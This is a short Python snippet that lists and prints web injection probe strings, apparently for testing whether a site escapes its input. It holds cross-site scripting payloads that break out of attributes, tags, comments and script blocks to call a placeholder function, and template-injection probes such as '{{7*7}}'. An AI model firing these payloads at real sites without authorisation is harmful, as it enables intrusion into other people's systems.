# tries: ends of attributes, tags and comments
answer = ['">\'><img src=x onerror=looksmith()>', ']]>', '--><script>looksmith()</script>', '</script><script>looksmith()</script>', '{{7*7}}', '{%x%}', '${7*7}']
print(answer)
